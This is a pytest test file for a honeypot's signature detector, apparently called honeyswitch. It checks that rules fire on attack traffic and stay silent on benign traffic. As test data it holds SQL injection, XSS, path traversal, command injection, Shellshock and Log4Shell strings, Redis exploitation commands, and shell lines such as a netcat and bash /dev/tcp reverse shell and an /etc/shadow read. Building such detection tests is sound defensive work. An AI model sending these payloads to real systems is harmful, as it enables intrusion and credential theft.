"""honeyswitch/rules/default.rules: everything loads, each group fires, benign is quiet."""
from __future__ import annotations

import pytest

from honeyswitch.detect.base import FlowInfo
from honeyswitch.detect.signatures import (
    Ruleset,
    SignatureDetector,
    default_rules_path,
    load_ruleset,
)

PROTOCOLS = {"web": "http", "cache": "redis", "ftp": "ftp", "mail": "smtp", "pop": "pop3",
             "shell": "telnet"}
PORTS = {"web": 8081, "cache": 6379, "ftp": 21, "mail": 25, "pop": 110, "shell": 23}


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return load_ruleset([default_rules_path()])


@pytest.fixture(params=["python", "auto"])
def det(request: pytest.FixtureRequest, ruleset: Ruleset) -> SignatureDetector:
    return SignatureDetector(ruleset, protocols=PROTOCOLS, prefilter=request.param,
                             clock=lambda: 0.0)


def test_all_default_rules_load(ruleset: Ruleset) -> None:
    assert ruleset.skipped == ()
    assert ruleset.loaded >= 50
    assert all(9_000_000 <= r.sid < 9_100_000 for r in ruleset.rules)
    assert all(r.classtype for r in ruleset.rules)
    assert all("honeyswitch_score" in r.raw for r in ruleset.rules)
    assert len({r.sid for r in ruleset.rules}) == ruleset.loaded


def sids(det: SignatureDetector, service: str, chunks, src: str = "203.0.113.5") -> list[int]:
    ins = det.new_stream(FlowInfo(service, "s", src, 50000, "192.0.2.1", PORTS[service]))
    found: list[int] = []
    for chunk in chunks:
        data, to_server = chunk if isinstance(chunk, tuple) else (chunk, True)
        found.extend(a.details["sid"] for a in ins.feed(data, to_server))
    return found


def get(uri: bytes, ua: bytes = b"Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
        extra: bytes = b"") -> bytes:
    return (b"GET " + uri + b" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + ua +
            b"\r\n" + extra + b"\r\n")


def post(uri: bytes, body: bytes) -> bytes:
    return (b"POST " + uri + b" HTTP/1.1\r\nHost: shop.example\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body) + body)


HTTP_ATTACKS = [
    (get(b"/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,version()--"), 9000001),
    (get(b"/item.php?id=1+union+select+1,2"), 9000001),
    (get(b"/item.php?id=1/**/UNION/**/SELECT/**/1"), 9000001),
    (post(b"/search", b"q=x'+UNION+SELECT+password+FROM+users--"), 9000002),
    (get(b"/login.php?user=admin'%20OR%20'1'='1"), 9000003),
    (get(b"/item.php?id=1%20AND%20SLEEP(5)"), 9000004),
    (get(b"/item.php?id=1%20AND%20BENCHMARK(5000000,MD5(1))"), 9000005),
    (get(b"/item.asp?id=1;WAITFOR%20DELAY%20'0:0:5'--"), 9000006),
    (post(b"/search", b"q=1%27+AND+SLEEP%285%29--"), 9000007),
    (get(b"/", b"sqlmap/1.7.2#stable (https://sqlmap.org)"), 9000008),
    (get(b"/item?id=1%20AND%209295=9295"), 9000009),
    (get(b"/item?id=1%20AND%203909=8514--%20x"), 9000009),
    (get(b"/item?id=1%20ORDER%20BY%207839--%20x"), 9000014),
    (get(b"/download?file=../../../../etc/hosts"), 9000010),
    (get(b"/download?file=..\\..\\windows\\win.ini"), 9000011),
    (get(b"/download?file=%2e%2e%2f%2e%2e%2fetc%2fhosts"), 9000012),
    (get(b"/download?file=/etc/passwd"), 9000013),
    (get(b"/ping.php?host=127.0.0.1;id"), 9000020),
    (get(b"/ping.php?host=127.0.0.1|cat%20/etc/hosts"), 9000021),
    (get(b"/ping.php?host=$(whoami)"), 9000022),
    (get(b"/ping.php?host=`uname -a`"), 9000023),
    (post(b"/ping", b"host=127.0.0.1%3Bcat+%2Fetc%2Fhosts"), 9000024),
    (get(b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), 9000030),
    (get(b"/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 9000031),
    (get(b"/redirect?to=javascript:alert(1)"), 9000032),
    (post(b"/comment", b"text=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"), 9000033),
    (get(b"/cgi-bin/status", b"() { :; }; echo; /bin/bash -c id"), 9000040),
    (get(b"/cgi-bin/() { :; }; id"), 9000041),
    (get(b"/", b"${jndi:ldap://evil.example/a}"), 9000045),
    (get(b"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"), 9000046),
    (get(b"/", b"Mozilla", b"X-Api: ${${lower:j}ndi:ldap://evil/a}\r\n"), 9000047),
    (get(b"/", b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), 9000050),
    (get(b"/", b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"), 9000051),
    (get(b"/", b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), 9000052),
    (get(b"/", b"Mozilla/5.0 zgrab/0.x"), 9000053),
    (get(b"/", b"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"), 9000054),
    (get(b"/", b"gobuster/3.5"), 9000055),
    (get(b"/", b"Wfuzz/3.1.0"), 9000056),
    (get(b"/", b"Mozilla/4.0 (Hydra)"), 9000057),
    (get(b"/nmaplowercheck1732545032"), 9000058),
    (get(b"/nice%20ports%2C/Trinity.txt.bak"), 9000059),
]


@pytest.mark.parametrize("request_bytes,sid", HTTP_ATTACKS)
def test_http_attacks(det: SignatureDetector, request_bytes: bytes, sid: int) -> None:
    assert sid in sids(det, "web", [request_bytes])


def resp(*parts: bytes) -> bytes:
    """A RESP array command."""
    return b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts)


REDIS_ATTACKS = [
    (b"CONFIG SET dir /var/spool/cron/\r\n", 9000100),
    (resp(b"CONFIG", b"SET", b"dir", b"/root/.ssh"), 9000100),
    (b"config set dbfilename authorized_keys\r\n", 9000101),
    (resp(b"config", b"set", b"dbfilename", b"x.so"), 9000101),
    (b"SLAVEOF 203.0.113.66 6379\r\n", 9000102),
    (resp(b"REPLICAOF", b"203.0.113.66", b"6379"), 9000102),
    (b"MODULE LOAD /tmp/exp.so\r\n", 9000103),
    (resp(b"MODULE", b"LOAD", b"/tmp/exp.so"), 9000103),
    (b'EVAL "local io_l = package.loadlib(\'x\'); return 1" 0\r\n', 9000104),
    (resp(b"EVAL", b"return io.popen('id'):read('*a')", b"0"), 9000104),
    (b"FLUSHALL\r\n", 9000105),
    (resp(b"FLUSHALL"), 9000105),
]


@pytest.mark.parametrize("data,sid", REDIS_ATTACKS)
def test_redis_attacks(det: SignatureDetector, data: bytes, sid: int) -> None:
    assert sid in sids(det, "cache", [b"PING\r\n", data])


def test_redis_attack_split_across_chunks(det: SignatureDetector) -> None:
    data = resp(b"CONFIG", b"SET", b"dir", b"/root/.ssh")
    for cut in range(1, len(data)):
        assert sids(det, "cache", [data[:cut], data[cut:]]) == [9000100], cut


def ftp_failures(n: int) -> list:
    chunks: list = [(b"220 FTP ready\r\n", False)]
    for i in range(n):
        chunks += [b"USER admin\r\n", (b"331 Password required\r\n", False),
                   b"PASS guess%d\r\n" % i, (b"530 Login incorrect.\r\n", False)]
    return chunks


def test_ftp_brute_force_replies(det: SignatureDetector) -> None:
    assert sids(det, "ftp", ftp_failures(4), src="203.0.113.30").count(9000200) == 0
    assert sids(det, "ftp", ftp_failures(5), src="203.0.113.31").count(9000200) == 1


def test_ftp_brute_force_across_sessions(det: SignatureDetector) -> None:
    found = []
    for _ in range(10):
        found += sids(det, "ftp", ftp_failures(1), src="203.0.113.32")
    assert found.count(9000200) == 2
    assert found.count(9000201) == 1


def test_smtp_brute_force(det: SignatureDetector) -> None:
    chunks: list = [(b"220 mail ESMTP\r\n", False), b"EHLO x\r\n", (b"250 ok\r\n", False)]
    for _ in range(10):
        chunks += [b"AUTH LOGIN\r\n", (b"334 VXNlcm5hbWU6\r\n", False), b"YQ==\r\n",
                   (b"334 UGFzc3dvcmQ6\r\n", False), b"Yg==\r\n",
                   (b"535 5.7.8 Authentication credentials invalid\r\n", False)]
    found = sids(det, "mail", chunks, src="203.0.113.40")
    assert found.count(9000210) == 2 and found.count(9000211) == 1


def test_http_login_brute_force_across_sessions(det: SignatureDetector) -> None:
    """One connection per attempt, any User-Agent: every login post after the 10th within
    60 s alerts (60 each; the source score then switches and blacklists it)."""
    found = []
    for i in range(14):
        found += sids(det, "web", [post(b"/login", b"user=admin&password=guess%d" % i)], src="203.0.113.50")
    assert found.count(9000230) == 4
    # Logging in now and then, or posting elsewhere, is not a brute force.
    other = []
    for i in range(20):
        other += sids(det, "web", [post(b"/comments", b"text=hello%d" % i)], src="203.0.113.51")
    other += sids(det, "web", [post(b"/login", b"user=a&password=b")] * 3, src="203.0.113.52")
    assert 9000230 not in other


def test_pop3_brute_force(det: SignatureDetector) -> None:
    chunks: list = [(b"+OK POP3 ready\r\n", False)]
    for _ in range(10):
        chunks += [b"USER bob\r\n", (b"+OK\r\n", False), b"PASS x\r\n",
                   (b"-ERR [AUTH] Authentication failed.\r\n", False)]
    found = sids(det, "pop", chunks, src="203.0.113.50")
    assert found.count(9000220) == 2 and found.count(9000221) == 1


@pytest.mark.parametrize("line,sid", [
    (b"cd /tmp; wget http://203.0.113.66/x.sh\r\n", 9000300),
    (b"curl -s http://203.0.113.66/x -o /tmp/x\r\n", 9000301),
    (b"chmod +x /tmp/x\r\n", 9000302),
    (b"chmod 777 /tmp/x\r\n", 9000302),
    (b"/bin/sh -i\r\n", 9000303),
    (b"nc 203.0.113.66 4444 -e /bin/bash\r\n", 9000304),
    (b"cat /etc/shadow\r\n", 9000305),
    (b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\r\n", 9000306),
])
def test_shell_commands_in_cleartext(det: SignatureDetector, line: bytes, sid: int) -> None:
    assert sid in sids(det, "shell", [b"login: root\r\n", line])
    assert sid in sids(det, "cache", [line])  # any cleartext service


BENIGN = [
    ("web", [get(b"/"), get(b"/index.html"), get(b"/search?q=union+station+opening+times"),
             get(b"/shop/item?id=42&color=red&order=asc"), get(b"/static/js/app.min.js"),
             get(b"/docs/select-a-plan"), get(b"/blog/how-to-sleep-better"),
             post(b"/login", b"username=alice&password=correct+horse"),
             get(b"/api/items?fields=id,name&sort=-price", b"curl/8.4.0")]),
    ("cache", [b"PING\r\n", b"SET user:1 alice\r\n", b"GET user:1\r\n",
               resp(b"SET", b"session:abc", b"{\"id\": 1}"), resp(b"GET", b"session:abc"),
               resp(b"CONFIG", b"GET", b"maxmemory"), b"INFO\r\n",
               (b"+OK\r\n$5\r\nalice\r\n", False)]),
    ("ftp", [(b"220 FTP ready\r\n", False), b"USER alice\r\n", (b"331 Password required\r\n", False),
             b"PASS secret\r\n", (b"230 Login successful.\r\n", False), b"PWD\r\n",
             (b"257 \"/home/alice\"\r\n", False), b"QUIT\r\n", (b"221 Goodbye.\r\n", False)]),
    ("mail", [(b"220 mail ESMTP\r\n", False), b"EHLO client\r\n", (b"250 ok\r\n", False),
              b"AUTH PLAIN AGFsaWNlAHNlY3JldA==\r\n", (b"235 2.7.0 ok\r\n", False)]),
]


@pytest.mark.parametrize("service,chunks", BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_traffic_is_quiet(det: SignatureDetector, service: str, chunks) -> None:
    assert sids(det, service, chunks, src="203.0.113.99") == []
